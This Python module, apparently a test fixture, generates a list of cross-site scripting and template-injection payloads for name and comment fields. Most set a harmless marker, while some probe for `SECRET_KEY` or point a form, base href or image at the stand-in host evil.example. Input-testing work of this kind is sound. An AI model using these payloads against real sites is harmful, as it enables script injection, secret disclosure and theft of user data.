"""What attackers type where a name or a comment belongs. Each sets `window.ran` or opens a dialog.

After OWASP's filter evasion cheat sheet and PortSwigger's: tags, handlers, breaking out of
attributes, of <title>, <textarea> and comments, SVG, MathML, templates, odd white space and case.
Short enough for a name (100 letters), and free of what a name may not have (`@`, `://`).
"""

RUN = "window.ran=1"
HANDLERS = (
    *("onerror", "onload", "onclick", "onfocus", "onmouseover", "onpointerenter", "ontoggle"),
    *("onanimationstart", "onbegin", "oncut", "onbeforeinput", "onscroll", "onwheel"),
)
TAGS = (
    *("<img src=x {on}>", "<svg {on}>", "<body {on}>", "<input autofocus {on}>"),
    *("<details open {on}>", "<video src=x {on}>", "<select autofocus {on}>"),
)
BREAKING_OUT = (
    *("", '"', "'", '">', "'>", "</title>", "</textarea>", "</bdi>", "</script>", "-->", "]]>"),
    *("</style>", "</noscript>", "&quot;>", "\\x3e", "</p></div>", "<!--", "<![CDATA["),
)

PAYLOADS = (
    *(f"{out}<script>{RUN}</script>" for out in BREAKING_OUT),
    *(f"{out}<img src=x onerror={RUN}>" for out in BREAKING_OUT),
    *(f'" autofocus {on}="{RUN}' for on in HANDLERS),
    *(f"' autofocus {on}='{RUN}" for on in HANDLERS),
    *(tag.format(on=f"{on}={RUN}") for tag in TAGS for on in HANDLERS[:4]),
    *(f"{{{{constructor.constructor('{RUN}')()}}}}", f"${{{RUN}}}", f"<%= {RUN} %>"),
    *("{% debug %}", "{{ settings.SECRET_KEY }}", f"javascript:{RUN}", f"jAvAsCrIpT:{RUN}"),
    *(f"<a href=javascript:{RUN}>x</a>", f"<a href='jav&#x09;ascript:{RUN}'>x</a>"),
    *(f"<iframe srcdoc='<script>parent.{RUN[7:]}</script>'>", f"<iframe src=javascript:{RUN}>"),
    *(f"<object data=javascript:{RUN}>", f"<embed src=javascript:{RUN}>"),
    *(f"<form><button formaction=javascript:{RUN}>x", f"<isindex action=javascript:{RUN}>"),
    *(f"<svg><script>{RUN}</script></svg>", f"<svg><animate onbegin={RUN} attributeName=x>"),
    *(f"<math><mtext></p><img src=x onerror={RUN}>", f"<svg/onload={RUN}//", f"<ScRiPt>{RUN}//"),
    *(f"<img/src/onerror={RUN}>", f"<img src=x:x\tonerror={RUN}>", f"<img src=`x`onerror={RUN}>"),
    *(
        f"\u2028<script>{RUN}</script>",
        f"\ufeff<script>{RUN}</script>",
        f"＜script＞{RUN}＜/script＞",
    ),
    *(f"%3Cscript%3E{RUN}%3C/script%3E", f"&lt;script&gt;{RUN}&lt;/script&gt;"),
    *(f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>", "<base href=//evil.example/>"),
    *("<link rel=stylesheet href=//evil.example/x.css>", "<style>*{display:none}</style>x"),
    *("<img src=//evil.example/x.png>", "<form action=//evil.example/><input name=email>"),
)
